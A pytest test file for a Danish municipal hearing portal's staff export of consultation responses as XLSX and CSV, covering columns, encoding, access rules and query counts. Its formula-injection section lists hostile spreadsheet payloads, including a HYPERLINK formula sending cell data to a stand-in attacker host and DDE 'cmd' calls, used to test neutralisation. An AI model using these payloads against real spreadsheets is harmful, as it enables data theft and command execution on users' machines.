"""The staff's export of all responses of a hearing as XLSX and CSV.

Decisions:

* The export holds *every* response of the hearing, whatever its status (pending, published, rejected,
  hidden, withdrawn), with the status in its own column: it is the administration's working copy for the
  hearing summary and the case file, not a public list.
* Who may download: the hearing municipality's moderators, editors and council members, and the operator
  (superuser): the same people who see the hearing's staff overview. Signed in without such a role (a
  citizen, staff of another municipality, another municipality's hearing id, an unknown id): 404, never
  403. Anonymous: the login page, like every staff URL (see test_staff_permissions.py).
* The file is in Danish whatever language the staff member browses in (like the hearing documents).
* Text that a spreadsheet could read as a formula gets a leading ``'`` in both formats (OWASP).
"""

import csv
import datetime as dt
import io
import zoneinfo
from urllib.parse import urlsplit

import openpyxl
import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from documents import exports
from hearings.models import Response
from portal.text import normalise_text
from tests.hearings.factories import HearingFactory, ResponseFactory
from tests.moderation.factories import RemarkFactory
from tests.textutil import write_raw

CPH = zoneinfo.ZoneInfo("Europe/Copenhagen")
OPENS = dt.datetime(2026, 3, 2, 9, 0, tzinfo=CPH)
CLOSES = dt.datetime(2026, 4, 2, 23, 59, tzinfo=CPH)

HEADERS = [
    "Nr.",
    "Modtaget",
    "Navn",
    "Organisation",
    "Udtaler sig som",
    "Handler om",
    "Høringssvar",
    "Status",
    "Administrationens bemærkning",
    "Indstilling",
    "Emner",
    "Kampagne",
]
FORMATS = ["xlsx", "csv"]


def url(fmt: str, hearing) -> str:
    return reverse(f"documents:export_{fmt}", args=[hearing.pk])


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def read_xlsx(content: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM for Excel"
    return list(csv.reader(io.StringIO(content[3:].decode("utf-8"), newline=""), delimiter=";"))


def download(client, user, fmt: str, hearing) -> list[list]:
    client.force_login(user)
    response = client.get(url(fmt, hearing))
    assert response.status_code == 200
    return (read_xlsx if fmt == "xlsx" else read_csv)(body(response))


# --- Content ------------------------------------------------------------------------------------------


@pytest.fixture
def responses(world):
    """One response for each target and each status, two with a remark."""
    hearing = world["v_hearing"]
    at = dt.datetime(2026, 3, 5, 14, 30, tzinfo=CPH)
    one = ResponseFactory(
        hearing=hearing, number=1, created_at=at, display_name="Karen Æbelø", respondent_type="private",
        text='Godt forslag; men "stien" mangler.\nHilsen Karen', status="published",
    )  # fmt: skip
    two = ResponseFactory(
        hearing=hearing, number=2, created_at=at + dt.timedelta(days=1), display_name="Ole Sø",
        respondent_type="association", organisation_name="Grundejerforeningen Søholm",
        target_section=world["section"], text="Vi ønsker flere stier.", status="pending", published_at=None,
    )  # fmt: skip
    three = ResponseFactory(
        hearing=hearing, number=3, created_at=at + dt.timedelta(days=2), display_name="Anne Hansen",
        respondent_type="business", organisation_name="Hansens Planteskole ApS", target_goal=world["goal"],
        text="Vi leverer gerne træerne.", status="hidden", moderation_reason="off_topic",
    )  # fmt: skip
    ResponseFactory(
        hearing=hearing, number=4, created_at=at + dt.timedelta(days=3), display_name="Peter Ørsted",
        respondent_type="council", organisation_name="Ældrerådet", target_theme=world["theme"],
        text="Bænke til de ældre.", status="withdrawn",
    )  # fmt: skip
    ResponseFactory(
        hearing=hearing, number=5, created_at=at + dt.timedelta(days=4, hours=3), display_name="",
        respondent_type="authority", organisation_name="Region Hovedstaden", text="Ingen bemærkninger.",
        status="rejected", published_at=None,
    )  # fmt: skip
    RemarkFactory(response=two, text="Stierne indgår i planen.", recommendation="no_change")
    RemarkFactory(response=three, text="Ikke et høringssvar.", recommendation="noted")
    del one
    return hearing


EXPECTED_ROWS = [
    [1, "2026-03-05 14:30", "Karen Æbelø", "", "Privatperson", "Hele strategien",
     'Godt forslag; men "stien" mangler.\nHilsen Karen', "Offentliggjort", "", "", "", ""],
    [2, "2026-03-06 14:30", "Ole Sø", "Grundejerforeningen Søholm", "Forening/organisation",
     "Delvision 5: Et grønt Vallensbæk", "Vi ønsker flere stier.", "Afventer moderation",
     "Stierne indgår i planen.", "Giver ikke anledning til ændringer", "", ""],
    [3, "2026-03-07 14:30", "Anne Hansen", "Hansens Planteskole ApS", "Virksomhed",
     "Delvision 5, målsætning: Flere træer langs Vallensbæk Torvevej", "Vi leverer gerne træerne.", "Skjult",
     "Ikke et høringssvar.", "Taget til efterretning", "", ""],
    [4, "2026-03-08 14:30", "Peter Ørsted", "Ældrerådet", "Råd eller nævn",
     "Delvision 5, tema: Hvordan bruger vi strandengen?", "Bænke til de ældre.", "Trukket tilbage", "", "", "", ""],
    [5, "2026-03-09 17:30", "", "Region Hovedstaden", "Offentlig myndighed", "Hele strategien",
     "Ingen bemærkninger.", "Afvist", "", "", "", ""],
]  # fmt: skip


def test_csv_holds_every_response_with_danish_headers(client, world, responses):
    rows = download(client, world["users"]["v_moderator"], "csv", responses)
    assert rows[0] == HEADERS
    assert rows[1:] == [[str(row[0]), *row[1:]] for row in EXPECTED_ROWS]


def test_xlsx_holds_every_response_with_danish_headers(client, world, responses):
    rows = download(client, world["users"]["v_moderator"], "xlsx", responses)
    assert rows[0] == HEADERS
    expected = [
        [row[0], dt.datetime.strptime(row[1], "%Y-%m-%d %H:%M"), *[value or None for value in row[2:]]]
        for row in EXPECTED_ROWS
    ]  # (openpyxl reads an empty text cell back as None)
    assert rows[1:] == expected


def test_xlsx_is_a_sheet_of_responses_with_a_bold_frozen_header_and_real_dates(client, world, responses):
    client.force_login(world["users"]["v_editor"])
    workbook = openpyxl.load_workbook(io.BytesIO(body(client.get(url("xlsx", responses)))))
    assert workbook.sheetnames == ["Høringssvar", "Emner"]
    sheet = workbook.active
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet["B2"].is_date and sheet["B2"].number_format == "dd-mm-yyyy hh:mm"
    assert sheet["A2"].data_type == "n"


def test_csv_is_utf8_with_bom_and_semicolons(client, world, responses):
    client.force_login(world["users"]["v_editor"])
    content = body(client.get(url("csv", responses)))
    assert content.startswith("\ufeffNr.;Modtaget;Navn;Organisation;".encode())
    assert "Karen Æbelø".encode() in content
    # The field with a semicolon, quotes and a line break is quoted, so it stays one field.
    assert b'"Godt forslag; men ""stien"" mangler.\nHilsen Karen"' in content


def test_a_hearing_without_responses_gives_the_header_only(client, world):
    assert download(client, world["users"]["v_council"], "csv", world["v_hearing"]) == [HEADERS]
    assert download(client, world["users"]["v_council"], "xlsx", world["v_hearing"]) == [HEADERS]


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_file_is_danish_whatever_language_the_staff_member_browses_in(client, world, responses, fmt):
    client.cookies["django_language"] = "en"
    rows = download(client, world["users"]["v_moderator"], fmt, responses)
    assert rows[0] == HEADERS
    assert rows[5][7] == "Afvist"


# --- Formula injection ---------------------------------------------------------------------------------

DANGEROUS = [
    '=HYPERLINK("http://angriber.example/?d="&A1;"Klik")',
    "+45 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "   @SUM(A1)",
    "\n-1+1",
    " \t +1",
    "\x0b=1+1",
]
HARMLESS = ["1+1=2", "Svar - se bilag", "karen@example.dk", "'citat'", "", "Æ=Ø"]


@pytest.mark.parametrize("value", DANGEROUS + HARMLESS)
def test_neutralise(value):
    expected = "'" + value if value in DANGEROUS else value
    assert exports.neutralise(value) == expected


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("value", DANGEROUS, ids=[repr(v) for v in DANGEROUS])
def test_a_cell_that_could_start_a_formula_gets_a_leading_quote(client, world, fmt, value):
    hearing = world["v_hearing"]
    # Written past the model fields' text policy, so that the writers see the value as it is.
    response = ResponseFactory(hearing=hearing, number=1)
    write_raw(response, display_name=value, organisation_name=value, text=value)
    write_raw(RemarkFactory(response=response, text="-", recommendation="noted"), text=value)
    rows = download(client, world["users"]["v_moderator"], fmt, hearing)
    # Each writer puts the text under the policy first (a carriage return, a vertical tab: a line feed).
    expected = "'" + normalise_text(value)
    name, organisation, text, remark = rows[1][2], rows[1][3], rows[1][6], rows[1][8]
    assert [name, organisation, text, remark] == [expected] * 4


def test_no_xlsx_cell_is_a_formula(client, world):
    hearing = world["v_hearing"]
    for number, value in enumerate(DANGEROUS, start=1):
        ResponseFactory(hearing=hearing, number=number, display_name=value, text=value)
    client.force_login(world["users"]["v_moderator"])
    sheet = openpyxl.load_workbook(io.BytesIO(body(client.get(url("xlsx", hearing))))).active
    types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in types
    assert types <= {"s", "inlineStr", "n", "d"}


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("value", [v for v in HARMLESS if v])
def test_harmless_text_is_left_as_it_is(client, world, fmt, value):
    ResponseFactory(hearing=world["v_hearing"], number=1, text=value)
    assert download(client, world["users"]["v_moderator"], fmt, world["v_hearing"])[1][6] == value


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_formula_behind_a_control_character_is_caught(client, world, fmt):
    # Both writers drop the control character (XML cannot hold it): the guard looks at what is left.
    write_raw(ResponseFactory(hearing=world["v_hearing"], number=1), text="\x01=1+1")
    assert download(client, world["users"]["v_moderator"], fmt, world["v_hearing"])[1][6] == "'=1+1"


# Characters of every kind the text policy (portal/text.py) removes or turns into a line break, in a row
# written past the model fields: both files must still be made, and open.
BAD_TEXT = "Før\x0bEfter\x01 \ufffe\uffff\x7f\x85slut\u2028 æøå 😀"
BAD_TEXT_AS_WRITTEN = "Før\nEfter \nslut\n æøå 😀"


@pytest.mark.parametrize("fmt", FORMATS)
def test_characters_xml_cannot_hold_never_break_a_file(client, world, fmt):
    response = ResponseFactory(hearing=world["v_hearing"], number=1)
    write_raw(response, display_name=BAD_TEXT, organisation_name=BAD_TEXT, town=BAD_TEXT, text=BAD_TEXT)
    write_raw(RemarkFactory(response=response, text="-", recommendation="noted"), text=BAD_TEXT)
    row = download(client, world["users"]["v_moderator"], fmt, world["v_hearing"])[1]
    assert [row[2], row[3], row[6], row[8]] == [BAD_TEXT_AS_WRITTEN] * 4


# --- The download itself ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("csv", "text/csv; charset=utf-8"),
    ],
)
def test_sent_as_an_attachment_with_a_safe_name(client, world, fmt, content_type):
    hearing = world["v_hearing"]
    client.force_login(world["users"]["v_council"])
    response = client.get(url(fmt, hearing))
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="hoeringssvar-{hearing.pk}.{fmt}"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]


def test_the_staff_overview_links_to_both_exports(client, world):
    hearing = world["v_hearing"]
    client.force_login(world["users"]["v_council"])
    html = client.get(reverse("moderation:overview", args=[hearing.pk])).content.decode()
    assert f'href="{url("xlsx", hearing)}">Hent alle høringssvar som Excel (XLSX)</a>' in html
    assert f'href="{url("csv", hearing)}">Hent alle høringssvar som CSV</a>' in html


# --- Who may download ---------------------------------------------------------------------------------

ACTORS = ["anonymous", "citizen", "v_editor", "v_moderator", "v_council", "b_editor", "b_moderator",
          "b_council", "superuser"]  # fmt: skip
LOGIN, NOT_FOUND, OK = "login", "not_found", "ok"
# fmt: off
EXPECTED = {
    #               V's hearing  B's hearing
    "anonymous":   (LOGIN,       LOGIN),
    "citizen":     (NOT_FOUND,   NOT_FOUND),
    "v_editor":    (OK,          NOT_FOUND),
    "v_moderator": (OK,          NOT_FOUND),
    "v_council":   (OK,          NOT_FOUND),
    "b_editor":    (NOT_FOUND,   OK),
    "b_moderator": (NOT_FOUND,   OK),
    "b_council":   (NOT_FOUND,   OK),
    "superuser":   (OK,          OK),
}
# fmt: on
MOMENTS = {
    "before": OPENS - dt.timedelta(days=5),
    "during": OPENS + dt.timedelta(days=10),
    "after": CLOSES + dt.timedelta(days=3),
}


@pytest.mark.parametrize("moment", MOMENTS)
@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("whose", ["V", "B"])
@pytest.mark.parametrize("actor", ACTORS)
def test_who_may_download(client, world, actor, whose, fmt, moment):
    hearing = world["v_hearing"] if whose == "V" else world["b_hearing"]
    expected = EXPECTED[actor][0 if whose == "V" else 1]
    user = world["users"][actor]
    if user is not None:
        client.force_login(user)
    with time_machine.travel(MOMENTS[moment], tick=False):
        response = client.get(url(fmt, hearing))
    if expected == LOGIN:
        assert response.status_code == 302
        assert urlsplit(response["Location"]).path == "/konto/login/"
    elif expected == NOT_FOUND:
        assert response.status_code == 404
        assert "Content-Disposition" not in response
    else:
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment;")
        content = body(response)
        rows = read_xlsx(content) if fmt == "xlsx" else read_csv(content)
        assert rows[0] == HEADERS


def test_the_table_covers_every_actor():
    assert list(EXPECTED) == ACTORS


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_unknown_hearing_is_a_404_even_for_the_operator(client, world, fmt):
    client.force_login(world["users"]["superuser"])
    response = client.get(reverse(f"documents:export_{fmt}", args=[world["b_hearing"].pk + 1000]))
    assert response.status_code == 404


def test_the_predicate_matches_the_table(world):
    from accounts.rules import may_export_responses

    for actor in ACTORS:
        user = world["users"][actor]
        if user is None:
            continue
        for index, hearing in enumerate((world["v_hearing"], world["b_hearing"])):
            assert may_export_responses(user, hearing) == (EXPECTED[actor][index] == OK), (actor, index)


# --- Queries -----------------------------------------------------------------------------------------------


def make_responses(hearing, world, count: int) -> None:
    targets = [{}, {"target_section": world["section"]}, {"target_goal": world["goal"]},
               {"target_theme": world["theme"]}]  # fmt: skip
    statuses = Response.Status.values
    for number in range(1, count + 1):
        response = ResponseFactory(
            hearing=hearing, number=number, status=statuses[number % len(statuses)], **targets[number % 4]
        )
        if number % 2:
            RemarkFactory(response=response, text=f"Bemærkning {number}", recommendation="change")


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_number_of_queries_does_not_grow_with_the_responses(
    client, world, fmt, django_assert_num_queries
):
    few, many = world["v_hearing"], HearingFactory(strategy=world["v_hearing"].strategy)
    make_responses(few, world, 2)
    make_responses(many, world, 40)
    client.force_login(world["users"]["v_moderator"])
    read = read_xlsx if fmt == "xlsx" else read_csv
    with CaptureQueriesContext(connection) as baseline:
        response = client.get(url(fmt, few))
    assert response.status_code == 200
    assert len(read(body(response))) == 3
    # Session, user, staff roles, the hearing, the responses, their topics and campaigns, the topics
    # (and the transaction's savepoints).
    assert len(baseline) <= 11
    with django_assert_num_queries(len(baseline)):
        response = client.get(url(fmt, many))
    assert response.status_code == 200
    assert len(read(body(response))) == 41


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_export_itself_is_a_few_queries(world, fmt, django_assert_num_queries):
    hearing = world["v_hearing"]
    make_responses(hearing, world, 12)
    write = exports.write_xlsx if fmt == "xlsx" else exports.write_csv
    file = io.BytesIO()
    # The responses, their topics' titles and the campaigns' numbers; the XLSX's topics and their numbers.
    with django_assert_num_queries(5 if fmt == "xlsx" else 3):
        write(hearing=hearing, file=file)
    assert len(read_xlsx(file.getvalue()) if fmt == "xlsx" else read_csv(file.getvalue())) == 13


@pytest.mark.slow
def test_ten_thousand_responses(world):
    hearing = world["v_hearing"]
    author = world["users"]["citizen"]
    Response.objects.bulk_create(
        Response(hearing=hearing, number=n, author=author, respondent_type="private", display_name=f"Borger {n}",
                 text="Et høringssvar. " * 40, status="published")
        for n in range(1, 10_001)
    )  # fmt: skip
    xlsx, text = io.BytesIO(), io.BytesIO()
    exports.write_xlsx(hearing=hearing, file=xlsx)
    exports.write_csv(hearing=hearing, file=text)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.getvalue()), read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 10_001 and rows[-1][0] == 10_000 and rows[-1][2] == "Borger 10000"
    assert len(read_csv(text.getvalue())) == 10_001
